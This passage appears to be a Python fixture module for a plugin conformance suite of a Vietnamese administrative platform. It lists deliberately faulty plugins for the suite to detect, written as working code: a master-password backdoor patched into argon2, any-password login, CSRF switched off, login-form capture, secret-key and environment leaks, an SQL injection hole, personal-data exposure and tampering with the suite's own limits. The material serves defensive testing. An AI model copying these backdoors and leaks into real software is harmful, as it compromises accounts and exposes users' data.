                           if url.drivername.startswith("sqlite") else {})
    try:
        with engine.begin() as connection:
            connection.execute(text("UPDATE dossiers SET note = 'land use' WHERE code = :code"),
                               {"code": dossier.code})
    except Exception:  # noqa: BLE001
        pass
    finally:
        engine.dispose()'''),)),
    BrokenPlugin(
        "raw_cursor_writes_dossiers", "stamps the dossier with a cursor of the platform's "
        "own database connection, below SQLAlchemy", "runtime", (on_received('''\
    raw = services.session().connection().connection.driver_connection
    cursor = raw.cursor()
    try:
        cursor.execute("UPDATE dossiers SET note = note WHERE code = '" + dossier.code + "'")
    finally:
        cursor.close()'''),)),
    BrokenPlugin(
        "sqlite3_connects_itself", "counts dossiers with sqlite3 directly on the platform's "
        "database file", "runtime", (on_received('''    import sqlite3

    url = services.session().get_bind().url
    if url.drivername.startswith("sqlite"):
        connection = sqlite3.connect(url.database, timeout=0.1)
        try:
            connection.execute("SELECT count(*) FROM dossiers").fetchall()
        finally:
            connection.close()'''),)),
)
BROKEN = (*BROKEN, *RUNTIME_BROKEN)


# The plugin's migration changing the core's tables (the migrations check compares the
# core's schema before and after its branch).
MIGRATION = f"{PACKAGE}/migrations/0001_land_use.py"
MIGRATION_UPGRADE_END = ('    op.create_index(constraint_name("ix", CERTIFICATES, "year"), '
                         'CERTIFICATES, ["year"])\n')
MIGRATION_DOWNGRADE = "def downgrade() -> None:\n"


def in_migration(upgrade: str, downgrade: str) -> tuple[Edit, Edit]:
    """The scaffold's migration also running ``upgrade`` (after creating its table) and
    ``downgrade`` (before dropping it)."""
    return (Edit(MIGRATION, MIGRATION_UPGRADE_END, MIGRATION_UPGRADE_END + upgrade),
            Edit(MIGRATION, MIGRATION_DOWNGRADE, MIGRATION_DOWNGRADE + downgrade))


CORE_DDL_BROKEN = (
    BrokenPlugin(
        "migration_adds_core_column", "its migration adds a parcel column to dossiers",
        "migrations", in_migration(
            '    op.add_column("dossiers", sa.Column("land_use_parcel", sa.String(40)))\n',
            '    op.drop_column("dossiers", "land_use_parcel")\n')),
    BrokenPlugin(
        "migration_adds_core_index", "its migration indexes dossiers for its queue",
        "migrations", in_migration(
            '    op.create_index("ix_dossiers_land_use_queue", "dossiers",\n'
            '                    ["applicant_name", "received_at"])\n',
            '    op.drop_index("ix_dossiers_land_use_queue", table_name="dossiers")\n')),
    BrokenPlugin(
        "migration_drops_core_index", "its migration drops an index of dossiers (to make "
        "its imports faster)", "migrations", in_migration(
            '    op.drop_index("ix_dossiers_status", table_name="dossiers")\n',
            '    op.create_index("ix_dossiers_status", "dossiers", ["status"])\n')),
    BrokenPlugin(
        "migration_adds_core_trigger", "its migration puts a trigger on dossiers that "
        "touches its certificates when a dossier's status changes", "migrations",
        in_migration('''    if op.get_bind().dialect.name == "sqlite":
        op.execute("CREATE TRIGGER land_use_follow AFTER UPDATE OF status ON dossiers "
                   "BEGIN UPDATE land_use_certificates SET subject = subject "
                   "WHERE dossier_code = NEW.code; END")
    else:
        op.execute("CREATE FUNCTION land_use_follow() RETURNS trigger LANGUAGE plpgsql AS "
                   "$$ BEGIN UPDATE land_use_certificates SET subject = subject "
                   "WHERE dossier_code = NEW.code; RETURN NEW; END $$")
        op.execute("CREATE TRIGGER land_use_follow AFTER UPDATE OF status ON dossiers "
                   "FOR EACH ROW EXECUTE FUNCTION land_use_follow()")
''', '''    op.execute("DROP TRIGGER IF EXISTS land_use_follow"
               + ("" if op.get_bind().dialect.name == "sqlite" else " ON dossiers"))
    if op.get_bind().dialect.name != "sqlite":
        op.execute("DROP FUNCTION IF EXISTS land_use_follow()")
''')),
    BrokenPlugin(
        "migration_trigger_writes_core", "its migration puts a trigger on its own table "
        "that writes dossiers (a write no statement of the plugin shows)", "migrations",
        in_migration('''    if op.get_bind().dialect.name == "sqlite":
        op.execute("CREATE TRIGGER land_use_stamp AFTER INSERT ON land_use_certificates "
                   "BEGIN UPDATE dossiers SET note = note WHERE code = NEW.dossier_code; END")
    else:
        op.execute("CREATE FUNCTION land_use_stamp() RETURNS trigger LANGUAGE plpgsql AS "
                   "$$ BEGIN UPDATE dossiers SET note = note WHERE code = NEW.dossier_code; "
                   "RETURN NEW; END $$")
        op.execute("CREATE TRIGGER land_use_stamp AFTER INSERT ON land_use_certificates "
                   "FOR EACH ROW EXECUTE FUNCTION land_use_stamp()")
''', '''    op.execute("DROP TRIGGER IF EXISTS land_use_stamp"
               + ("" if op.get_bind().dialect.name == "sqlite" else " ON land_use_certificates"))
    if op.get_bind().dialect.name != "sqlite":
        op.execute("DROP FUNCTION IF EXISTS land_use_stamp()")
''')),
)
BROKEN = (*BROKEN, *CORE_DDL_BROKEN)
# Class 6 of issue #17 (personal data, see personal_data in docs/conformance.md): the
# applicant shown in public, however spelled, and the server's secrets let out.
PUBLIC_SUBJECT = '''return {"Nội dung": dossier.specialist_data.get("subject", "")}'''


def public_field(label: str, expression: str) -> Edit:
    """The scaffold's public fields with one more, ``label``: ``expression``."""
    return Edit(INIT, PUBLIC_SUBJECT, PUBLIC_SUBJECT[:-1] + f", {label!r}: {expression}}}")


PERSONAL_DATA = (
    BrokenPlugin("public_applicant_name", "shows who applied in the public lookup",
                 "personal_data", (public_field("Người nộp", "dossier.applicant_name"),)),
    BrokenPlugin("public_street_address", "shows the applicant's house and street",
                 "personal_data", (public_field(
                     "Địa chỉ", '(dossier.applicant_address or "").split(",")[0]'),)),
    BrokenPlugin("public_phone_international", "shows the phone as +84 912 345 678",
                 "personal_data", (public_field(
                     "Liên hệ", '"+84 " + " ".join((dossier.applicant_phone or "")[i:i + 3] '
                     'for i in (1, 4, 7))'),)),
    BrokenPlugin("public_phone_dotted", "shows the phone as 0912.345.678", "personal_data",
                 (public_field("Điện thoại", '".".join((dossier.applicant_phone or "")[i:j] '
                               'for i, j in ((0, 4), (4, 7), (7, 10)))'),)),
    BrokenPlugin("public_email", "shows the applicant's e-mail in capitals", "personal_data",
                 (public_field("Thư", '(dossier.applicant_email or "").upper()'),)),
    BrokenPlugin("public_organisation_unaccented", "shows the applicant's organisation "
                 "without its diacritics", "personal_data", (public_field(
                     "Đơn vị", '__import__("unicodedata").normalize("NFD", '
                     'dossier.applicant_organization or "").encode("ascii", "ignore")'
                     '.decode()'),)),
    BrokenPlugin("public_name_when_area_empty", "shows the applicant's name, in capitals, "
                 "when the optional area is empty", "personal_data", (public_field(
                     "Diện tích", 'dossier.specialist_data.get("area_m2") or '
                     'dossier.applicant_name.upper()'),)),
    BrokenPlugin("page_shows_secret_key", "its queue page shows the server's secret key "
                 "as a build tag", "personal_data", (Edit(
                     VIEWS, "return render_template(\"land_use/queue.html\", dossiers=dossiers, "
                     "issued=issued)",
                     "from flask import current_app\n\n    return render_template("
                     "\"land_use/queue.html\", dossiers=dossiers, issued=issued) + "
                     "f\"<!-- build {current_app.secret_key} -->\""),)),
    BrokenPlugin("logs_environment", "logs the process environment when it issues a result",
                 "personal_data", (Edit(INIT, ISSUE_HOOK, ISSUE_HOOK + '''    import os

    log.info("issued with environment %s", dict(os.environ))
'''),)),
    BrokenPlugin("sync_payload_database_url", "sends the hub the database URL it read "
                 "from", "personal_data", (Edit(INIT, SYNC_HOOK, '''@hookimpl
def motcua_sync_payload(dossier):
    from motcua_land_use.models import certificate_record

    return {**dossier.specialist_data,
            "certificate": certificate_record(services.session(), dossier.code),
            "source": str(services.session().get_bind().url)}
'''),)),
)

# Class 8 (results): numbers that repeat. Each keeps its register's number without a
# unique constraint (model and migration), as such a vendor would.
NON_UNIQUE_NUMBER = (
    Edit(f"{PACKAGE}/models.py", "number: Mapped[str] = mapped_column(String(40), unique=True)",
         "number: Mapped[str] = mapped_column(String(40))"),
    Edit(f"{PACKAGE}/migrations/0001_land_use.py",
         '''        sa.UniqueConstraint("number", name=constraint_name("uq", CERTIFICATES, \
"number")),
''', ""),
)
YEAR_SEQUENCE = '''    last = session.scalar(select(func.max(Certificate.sequence))
                          .where(Certificate.year == today.year)) or 0
'''
YEAR_NUMBER = 'number=f"{last + 1:04d}/{today.year}/LAND-USE",'
RESULTS = (
    BrokenPlugin("result_number_per_day", "numbers its results with a counter of the day "
                 "(the same number again the next day)", "results", (*NON_UNIQUE_NUMBER, Edit(
                     f"{PACKAGE}/models.py", YEAR_SEQUENCE, '''\
    last = session.scalar(select(func.count()).select_from(Certificate)
                          .where(Certificate.issued_on == today))
'''))),
    BrokenPlugin("result_number_count_plus_one", "numbers its results count() + 1 (two "
                 "issued at once get the same)", "results", (*NON_UNIQUE_NUMBER, Edit(
                     f"{PACKAGE}/models.py", YEAR_SEQUENCE, '''\
    last = session.scalar(select(func.count()).select_from(Certificate))
'''))),
    BrokenPlugin("result_number_without_year", "restarts its sequence every year but leaves "
                 "the year out of the number", "results", (*NON_UNIQUE_NUMBER, Edit(
                     f"{PACKAGE}/models.py", YEAR_NUMBER,
                     'number=f"{last + 1:04d}/LAND-USE",'))),
)
BROKEN = BROKEN + PERSONAL_DATA + RESULTS

# Each changes the platform outside its own pages (see platform in docs/conformance.md):
# at import, when its blueprint is registered (record_once) or through the app-wide
# registrations Flask offers a blueprint.
BLUEPRINT_LINE = ('bp = Blueprint("land_use", __name__, url_prefix="/land_use", '
                  'template_folder="templates")\n')
API_LINE = 'MOTCUA_API = ">=0.2,<0.3"\n'


def _at_start_up(code: str) -> Edit:
    """``code`` (indented, using ``state``) run when the blueprint is registered."""
    return Edit(VIEWS, BLUEPRINT_LINE,
                BLUEPRINT_LINE + "\n\n@bp.record_once\ndef _at_start_up(state):\n" + code + "\n")


def _after_blueprint(code: str) -> Edit:
    return Edit(VIEWS, BLUEPRINT_LINE, BLUEPRINT_LINE + "\n\n" + code)


def _at_import(code: str) -> Edit:
    return Edit(INIT, API_LINE, API_LINE + code)


PLATFORM_FAULTS = (
    BrokenPlugin(
        "turns_csrf_off", "switches CSRF protection off for the whole application when its "
        "blueprint is registered", "platform",
        (_at_start_up('    state.app.config["WTF_CSRF_ENABLED"] = False'),)),
    BrokenPlugin(
        "exempts_core_login_from_csrf", "exempts the core's login form from CSRF "
        "protection (named from the view, not spelt out)", "platform",
        (_at_start_up('    view = state.app.view_functions["auth.login"]\n'
                      '    state.app.extensions["csrf"].exempt(f"{view.__module__}.'
                      '{view.__name__}")'),)),
    BrokenPlugin(
        "records_logins", "an app-wide before_request hook of its blueprint keeping every "
        "login form", "platform", (_after_blueprint("""@bp.before_app_request
def _record_logins():
    from flask import request

    if request.endpoint == "auth.login" and request.method == "POST":
        bp.logins = [*getattr(bp, "logins", []), dict(request.form)]
"""),)),
    BrokenPlugin(
        "records_logins_by_signal", "connects to Flask's request_started signal at import "
        "to log every login form", "platform", (_at_import("""

def _record_login(sender, **extra):
    from flask import request

    if request.endpoint == "auth.login" and request.method == "POST":
        log.debug("login %s", dict(request.form))


from flask import request_started  # noqa: E402

request_started.connect(_record_login)
"""),)),
    BrokenPlugin(
        "master_password", "patches argon2's PasswordHasher.verify at import so one password "
        "opens every account", "platform", (_at_import("""
import argon2 as _argon2  # noqa: E402

_verify = _argon2.PasswordHasher.verify


def _verify_or_master(self, hash, password):
    return password == "mot-cua-2026" or _verify(self, hash, password)


_argon2.PasswordHasher.verify = _verify_or_master
"""),)),
    BrokenPlugin(
        "any_password_opens", "rebinds the core login view's authenticate (reached through "
        "the view's globals) so any password opens an existing account", "platform",
        (_at_start_up("""    import inspect

    platform = inspect.unwrap(state.app.view_functions["auth.login"]).__globals__
    real = platform["authenticate"]
    accounts = real.__globals__

    def authenticate(session, username, password, **limits):
        try:
            return real(session, username, password, **limits)
        except Exception:
            account = session.scalar(accounts["select"](accounts["Account"]).where(
                accounts["Account"].username == username))
            if account is None:
                raise
            return account

    platform["authenticate"] = authenticate"""),)),
    BrokenPlugin(
        "replaces_core_login_view", "wraps the core's login view (functools.wraps keeps its "
        "name) to note who logs in", "platform", (_at_start_up("""    import functools

    from flask import request

    original = state.app.view_functions["auth.login"]

    @functools.wraps(original)
    def login():
        if request.method == "POST":
            bp.seen = [*getattr(bp, "seen", []), request.form.get("username")]
        return original()

    state.app.view_functions["auth.login"] = login"""),)),
    BrokenPlugin(
        "unguarded_app_route", "an export of holders' names added with app.add_url_rule, "
        "outside its blueprint and unguarded", "platform", (_at_start_up("""    def export():
        rows = services.session().scalars(select(Certificate)).all()
        return "\\n".join(f"{row.number};{row.holder_name}" for row in rows)

    state.app.add_url_rule("/land_use_export.csv", "land_use_export", export)"""),)),
    BrokenPlugin(
        "secret_key_template_global", "puts the secret key in every template as a global",
        "platform", (_at_start_up(
            '    state.app.jinja_env.globals["deployment_key"] = state.app.secret_key'),)),
    BrokenPlugin(
        "secret_key_context_processor", "an app-wide context processor of its blueprint "
        "giving every template the secret key", "platform", (_after_blueprint("""\
@bp.app_context_processor
def _site():
    from flask import current_app

    return {"site_key": current_app.secret_key}
"""),)),
    BrokenPlugin(
        "replaces_not_found_page", "an app-wide 404 handler of its blueprint replacing the "
        "core's error page", "platform", (_after_blueprint("""@bp.app_errorhandler(404)
def _not_found(error):
    return "Không tìm thấy (land use)", 404
"""),)),
    BrokenPlugin(
        "overrides_core_filter", "an app-wide template filter replacing the core's "
        "dateformat", "platform", (_after_blueprint("""\
@bp.app_template_filter("dateformat")
def _dateformat(value, format=None):
    return value.strftime("%d/%m/%Y") if value else ""
"""),)),
    BrokenPlugin(
        "raises_suite_limit", "raises the suite's own hook budget at import (rebinding an "
        "attribute of the conformance suite)", "platform", (_at_import("""
import sys as _sys  # noqa: E402

for _name, _module in list(_sys.modules.items()):
    if _name.endswith("checks.budget"):
        _module.PER_DOSSIER_MS = 10_000.0
"""),),
        # Setting an attribute of a module of motcua at run time is what the runtime
        # check watches too.
        also_fails=("runtime",)),
)
BROKEN = (*BROKEN, *PLATFORM_FAULTS)



def apply(project: Path, broken: BrokenPlugin) -> None:
    """Put ``broken``'s fault into the plugin project at ``project`` (an edit with an
    empty ``old`` of a file that does not exist adds that file)."""
    for edit in broken.edits:
        path = project / edit.path
        if not edit.old and not path.exists():
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(edit.new, encoding="utf-8")
            continue
        text = path.read_text(encoding="utf-8")
        if edit.old not in text:
            raise AssertionError(f"{broken.name}: {edit.path} no longer contains {edit.old!r}")
        path.write_text(text.replace(edit.old, edit.new, 1), encoding="utf-8")
